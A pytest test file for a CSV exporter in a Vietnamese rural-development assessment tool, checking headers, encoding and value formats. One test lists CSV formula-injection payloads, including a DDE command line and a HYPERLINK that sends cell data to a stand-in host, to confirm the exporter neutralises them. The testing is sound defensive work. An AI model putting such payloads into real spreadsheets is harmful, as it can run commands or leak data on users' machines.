"""CSV export: exact files, headers and value formats, read back with the csv module."""

from __future__ import annotations

import csv
import shutil
import subprocess
from dataclasses import replace
from datetime import date, datetime

import openpyxl
import pytest

from ntm_excel.issues import make_issue
from ntm_excel.model import (
    Consolidation,
    CriterionResult,
    IndicatorResult,
    Status,
    Submission,
    Task,
    TaskState,
    TaskStatus,
    Unit,
    UnitReport,
)
from ntm_excel.write.csv_export import HEADERS, write_csv

CAM_THANH = Unit("18694", "Xã Cẩm Thành", "xã", "Huyện Cẩm Xuyên", "Hà Tĩnh", "Bắc Trung Bộ")
CAM_LAC = Unit("18748", "Xã Cẩm Lạc", "xã", "Huyện Cẩm Xuyên", "Hà Tĩnh", "Bắc Trung Bộ")
DISTRICT = Unit(
    "436", "Huyện Cẩm Xuyên", "huyện", "Huyện Cẩm Xuyên", "Hà Tĩnh", "Bắc Trung Bộ", expected=False
)


def result(code: str, value, computed: Status, claimed: Status = Status.MET) -> IndicatorResult:
    status = computed if computed is not Status.UNKNOWN else claimed
    return IndicatorResult(
        unit_code="18694",
        indicator_code=code,
        criterion_no=int(code.split(".")[0]),
        threshold="≥85",
        value=value,
        raw=str(value),
        self_assessment=claimed,
        computed_status=computed,
        status=status,
    )


def consolidation() -> Consolidation:
    submission = Submission(
        path="/in/Cẩm Thành.xlsx",
        file_name="Cẩm Thành.xlsx",
        sha256="0" * 64,
        size=1,
        modified=datetime(2021, 3, 1),
        unit_code="18694",
        unit_text="UBND XÃ CẨM THÀNH",
    )
    indicators = [
        result("15.1", 85.5, Status.MET),
        result("10", 1234.5, Status.MET),
        result("4.2", 100.0, Status.MET),
        result("1.1", '=HYPERLINK("x"), đã duyệt', Status.UNKNOWN, Status.NOT_MET),
        result("17.1", None, Status.UNKNOWN, Status.UNKNOWN),
        result("11", 0.0001, Status.MET),
    ]
    criteria = [
        CriterionResult("18694", 1, "Quy hoạch", Status.NOT_MET),
        CriterionResult("18694", 4, "Điện", Status.MET),
    ]
    reports = [
        UnitReport(CAM_THANH, submission, indicators, criteria, errors=1, warnings=2),
        UnitReport(CAM_LAC, errors=1),
    ]
    plan_task = Task(
        source="plan",
        unit_code="",
        criterion_no=None,
        text="Hoàn thiện hồ sơ, thủ tục",
        deadline_text="trong quý I/2021",
        due=date(2021, 3, 31),
        owners=("Lê Ngọc Hà", "Lê Văn Danh"),
        directors=("Phạm Hoàng Anh",),
        section="2.4. Lộ trình xây dựng hồ sơ",
        lead=("Văn phòng điều phối NTM huyện",),
        task_id="2.4-1",
        recurrence="hàng tháng",
    )
    unit_task = Task(
        source="unit",
        unit_code="18694",
        criterion_no=17,
        text="Xây dựng bãi rác",
        deadline_text="",
        due=None,
        owners=("Nguyễn Văn A",),
        partners=("Hội Nông dân", "Đoàn Thanh niên"),
        milestone="khởi công",
    )
    return Consolidation(
        as_of=date(2021, 3, 15),
        catalog_set="xa_2016_2020",
        units=reports,
        tasks=[
            TaskStatus(plan_task, TaskState.DUE_SOON, days_left=16),
            TaskStatus(unit_task, TaskState.NO_DUE_DATE),
        ],
        issues=[
            make_issue(
                "formula-without-value",
                unit_code="18694",
                file="Cẩm Thành.xlsx",
                sheet="Tự đánh giá",
                cell="D17",
                formula="=SUM(D1:D3)",
            ),
            make_issue("unit-not-submitted", unit_code="18748", unit="Xã Cẩm Lạc"),
        ],
        criteria_names={1: "Quy hoạch", 4: "Điện"},
        district=UnitReport(DISTRICT),
    )


def read(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def visible(folder) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("."))


def test_writes_exactly_five_files_with_their_headers(tmp_path):
    written = write_csv(consolidation(), tmp_path / "csv")
    assert visible(tmp_path / "csv") == sorted(
        ["units.csv", "indicators.csv", "criteria.csv", "tasks.csv", "issues.csv"]
    )
    assert [p.name for p in written] == list(HEADERS)
    assert read(tmp_path / "csv" / "units.csv")[0] == [
        "unit_code",
        "unit_name",
        "submitted",
        "source_file",
        "criteria_met",
        "criteria_total",
        "errors",
        "warnings",
    ]
    assert read(tmp_path / "csv" / "indicators.csv")[0] == [
        "unit_code",
        "indicator_code",
        "value",
        "self_assessment",
        "computed_status",
        "status",
        "part_of",
    ]
    assert read(tmp_path / "csv" / "criteria.csv")[0] == ["unit_code", "criterion_no", "status"]
    assert read(tmp_path / "csv" / "tasks.csv")[0] == [
        "source",
        "unit_code",
        "criterion_no",
        "task",
        "due_date",
        "owners",
        "state",
        "section",
        "task_code",
        "lead",
        "directing",
        "recurrence",
        "partners",
    ]
    assert read(tmp_path / "csv" / "issues.csv")[0] == [
        "severity",
        "code",
        "unit_code",
        "file",
        "sheet",
        "cell",
        "message",
    ]
    raw = (tmp_path / "csv" / "units.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfunit_code,")  # Excel then reads it as UTF-8
    assert "Xã Cẩm Thành".encode() in raw


def test_units(tmp_path):
    write_csv(consolidation(), tmp_path)
    rows = read(tmp_path / "units.csv")[1:]
    assert rows == [
        ["18694", "Xã Cẩm Thành", "yes", "Cẩm Thành.xlsx", "1", "2", "1", "2"],
        ["18748", "Xã Cẩm Lạc", "no", "", "", "", "1", "0"],
        ["436", "Huyện Cẩm Xuyên", "no", "", "", "", "0", "0"],
    ]


def test_indicator_values_and_statuses(tmp_path):
    write_csv(consolidation(), tmp_path)
    rows = read(tmp_path / "indicators.csv")[1:]
    assert rows == [
        ["18694", "15.1", "85.5", "met", "met", "met", ""],
        ["18694", "10", "1234.5", "met", "met", "met", ""],
        ["18694", "4.2", "100", "met", "met", "met", ""],
        ["18694", "1.1", '\'=HYPERLINK("x"), đã duyệt', "not_met", "unknown", "not_met", ""],
        ["18694", "17.1", "", "unknown", "unknown", "unknown", ""],
        ["18694", "11", "0.0001", "met", "met", "met", ""],
    ]


def test_criteria_tasks_and_issues(tmp_path):
    write_csv(consolidation(), tmp_path)
    assert read(tmp_path / "criteria.csv")[1:] == [["18694", "1", "not_met"], ["18694", "4", "met"]]
    assert read(tmp_path / "tasks.csv")[1:] == [
        ["plan", "", "", "Hoàn thiện hồ sơ, thủ tục", "2021-03-31", "Lê Ngọc Hà; Lê Văn Danh",
         "due_soon", "2.4. Lộ trình xây dựng hồ sơ", "2.4-1", "Văn phòng điều phối NTM huyện",
         "Phạm Hoàng Anh", "hàng tháng", ""],
        ["unit", "18694", "17", "Xây dựng bãi rác (khởi công)", "", "Nguyễn Văn A", "no_due_date",
         "", "", "", "", "", "Hội Nông dân; Đoàn Thanh niên"],
    ]  # fmt: skip
    located, issue = read(tmp_path / "issues.csv")[1:]
    assert located[:6] == ["error", "formula-without-value", "18694", "Cẩm Thành.xlsx",
                           "Tự đánh giá", "D17"]  # fmt: skip
    assert located[6].startswith("Ô có công thức «=SUM(D1:D3)»")
    assert issue == [
        "error",
        "unit-not-submitted",
        "18748",
        "",
        "",
        "",
        "Xã Cẩm Lạc chưa nộp biểu tự đánh giá tiêu chí.",
    ]


def test_rewriting_replaces_the_files(tmp_path):
    write_csv(consolidation(), tmp_path)
    data = consolidation()
    data.units = data.units[:1]
    data.district = None
    write_csv(data, tmp_path)
    assert len(read(tmp_path / "units.csv")) == 2
    assert visible(tmp_path) == sorted(HEADERS)


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=2+2",
    "\r=2+2",
    "'=1+1",
]


def test_text_a_spreadsheet_would_run_gets_a_quote_numbers_stay_numbers(tmp_path):
    """OWASP CSV injection: text that starts like a formula, as a commune may type it."""
    data = consolidation()
    report = data.units[0]
    report.indicators = [result(f"1.{i}", text, Status.UNKNOWN) for i, text in enumerate(FORMULAS)]
    report.indicators += [result("9.1", -3.0, Status.NOT_MET), result("9.2", 85.5, Status.MET)]
    task = data.tasks[0].task
    data.tasks[0] = TaskStatus(
        replace(task, text='=HYPERLINK("x")', owners=("@Lê Ngọc Hà", "-Lê Văn Danh")),
        TaskState.DUE_SOON,
    )
    write_csv(data, tmp_path)
    values = [row[2] for row in read(tmp_path / "indicators.csv")[1:]]
    assert values == ["'" + text for text in FORMULAS] + ["-3", "85.5"]
    assert [value[1:] for value in values[: len(FORMULAS)]] == FORMULAS  # one quote off: as typed
    plan = read(tmp_path / "tasks.csv")[1]
    assert plan[3:6] == ['\'=HYPERLINK("x")', "2021-03-31", "'@Lê Ngọc Hà; -Lê Văn Danh"]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_the_csv_as_text_with_vietnamese_letters(tmp_path):
    """Opened by a spreadsheet, every dangerous text stays a plain string (unquoted,
    LibreOffice runs "=1+1"). LibreOffice is told the encoding; Excel reads it from the BOM."""
    data = consolidation()
    data.units[0].indicators = [
        result(f"1.{i}", text, Status.UNKNOWN) for i, text in enumerate(FORMULAS)
    ] + [result("9.1", -3.0, Status.NOT_MET)]
    write_csv(data, tmp_path / "csv")
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation={profile}",
         "--infilter=CSV:44,34,76", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(tmp_path / "csv" / "indicators.csv")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    sheet = openpyxl.load_workbook(tmp_path / "indicators.xlsx").active
    cells = [sheet.cell(row, 3) for row in range(2, sheet.max_row + 1)]
    assert all(cell.data_type == "s" for cell in cells[: len(FORMULAS)])
    shown = ["'" + text.replace("\r", "\n") for text in FORMULAS]  # a CR in a cell is a line
    assert [cell.value for cell in cells[: len(FORMULAS)]] == shown
    assert cells[-1].value == -3 and cells[-1].data_type == "n"
    assert sheet["B1"].value == "indicator_code"  # the BOM is not read as part of the text
